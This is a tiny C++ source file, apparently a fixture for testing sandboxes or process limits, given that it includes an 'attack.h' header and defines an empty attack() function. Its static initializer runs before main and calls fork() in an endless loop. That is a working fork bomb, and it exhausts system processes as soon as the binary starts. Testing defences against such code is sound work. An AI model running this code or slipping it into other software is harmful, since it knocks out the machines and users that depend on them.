// Forks without end, before main.
#include <unistd.h>

#include "attack.h"

namespace {
struct Early {
  Early() {
    for (;;)
      ::fork();
  }
} early;
}  // namespace

void attack() {}
